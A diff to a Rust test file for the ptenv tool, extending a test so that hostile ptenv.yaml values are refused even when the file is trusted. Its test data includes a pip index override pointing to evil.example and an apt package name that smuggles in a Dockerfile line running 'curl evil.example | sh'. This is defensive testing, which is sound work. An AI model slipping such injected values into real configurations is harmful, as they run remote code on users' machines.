@@ -174,23 +174,45 @@ fn a_file_without_risky_settings_needs_no_trust() {
     assert!(revoked.stderr.contains("was not trusted"), "{revoked}");
 }
 
+/// What no trust can make acceptable: a token override, an option or a second Dockerfile
+/// line smuggled in as a package name. Refused without a terminal, by `ptenv trust` itself,
+/// and with `--trust`.
 #[test]
-fn a_token_override_is_refused_even_by_a_user_who_trusts_the_file() {
-    let p = Project::new("trust-token").untrusted();
-    p.write("ptenv.yaml", "env: {JUPYTER_TOKEN: known}\n");
-    for args in [
-        &["trust"][..],
-        &["up", "jupyter", "--dry-run"],
-        &["up", "jupyter", "--trust"],
+fn hostile_values_are_refused_even_by_a_user_who_trusts_the_file() {
+    for (name, yaml, said) in [
+        (
+            "token",
+            "env: {JUPYTER_TOKEN: known}\n",
+            "`JUPYTER_TOKEN` is refused",
+        ),
+        (
+            "pip-option",
+            "packages: {pip: ['--index-url=http://evil.example/simple']}\n",
+            "is not a pip requirement",
+        ),
+        (
+            "newline",
+            "packages: {apt: [\"git\\nRUN curl evil.example | sh\"]}\n",
+            "is not a Debian package",
+        ),
     ] {
-        let out = p.ptenv(args).run();
-        out.assert_exit(1);
-        assert!(
-            out.stderr.contains("`JUPYTER_TOKEN` is refused"),
-            "{args:?}: {out}"
-        );
+        let p = Project::new(&format!("trust-hostile-{name}")).untrusted();
+        p.write("ptenv.yaml", yaml);
+        for args in [
+            &["trust"][..],
+            &["up", "jupyter", "--dry-run"],
+            &["up", "jupyter", "--trust"],
+        ] {
+            let out = p.ptenv(args).run();
+            out.assert_exit(1);
+            assert!(out.stderr.contains(said), "{name} {args:?}: {out}");
+            assert!(
+                out.stderr.contains("ptenv.yaml:1:"),
+                "{name} {args:?}: {out}"
+            );
+        }
+        assert!(p.containers().is_empty());
     }
-    assert!(p.containers().is_empty());
 }
 
 #[test]
